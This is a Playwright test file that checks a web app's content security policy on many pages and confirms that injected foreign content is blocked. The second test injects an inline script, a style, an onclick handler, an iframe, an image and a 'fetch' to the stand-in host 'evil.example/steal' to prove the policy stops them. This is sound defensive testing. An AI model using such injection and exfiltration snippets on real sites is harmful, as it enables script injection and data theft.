// The content security policy in a real browser: our pages work under it, and what is not ours does not run.
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.js';

const PAGES = ['/', '/worklist', '/triage', '/meetings', '/boards', '/emergencies', '/specimens', '/scores', '/calculators/dose', '/catalogue', '/outbox', '/duplicates', '/prognosis-note', '/status', '/alert'];

/** What the policy has stopped on a page from now on. */
async function stopped(page: Page): Promise<() => Promise<string[]>> {
  await page.evaluate(() => {
    const seen: string[] = [];
    Object.assign(window, { stoppedHere: seen });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => void seen.push(effectiveDirective));
  });
  return () => page.evaluate(() => (window as unknown as { stoppedHere: string[] }).stoppedHere);
}

test('every page works under the policy, and nothing of it is stopped', async ({ people }) => {
  const { page } = await people.as('coordinator');
  for (const address of PAGES) {
    const answer = await page.goto(address);
    expect(answer?.headers()['content-security-policy']).toMatch(/^default-src 'none'; script-src 'self';.*style-src 'self' 'nonce-/);
    await expect(page.locator('h1').first()).toBeVisible();
  }
  expect(people.complaints).toEqual([]);
});

test('what is not ours does not run, and a journey would say so', async ({ browser, baseURL }) => {
  // A browser of its own: what is stopped here must not fail the journey.
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${baseURL ?? ''}/sign-in`);
  await expect(page.locator('h1').first()).toBeVisible();
  const soFar = await stopped(page);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.ranHere = true';
    document.head.append(script);
    const style = document.createElement('style');
    style.textContent = 'body { display: none }';
    document.head.append(style);
    document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/x.png"><p style="position: fixed">x</p><button onclick="window.ranHere = true">x</button>');
    // A browser looks at such a handler only when it would run.
    document.querySelector<HTMLButtonElement>('button[onclick]')?.click();
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
    void fetch('https://evil.example/steal').catch(() => undefined);
  });
  await expect.poll(soFar).toEqual(expect.arrayContaining(['script-src-elem', 'style-src-elem', 'img-src', 'style-src-attr', 'script-src-attr', 'frame-src', 'connect-src']));
  await expect(page.locator('h1').first()).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { ranHere?: boolean }).ranHere)).toBeUndefined();
  await context.close();
});
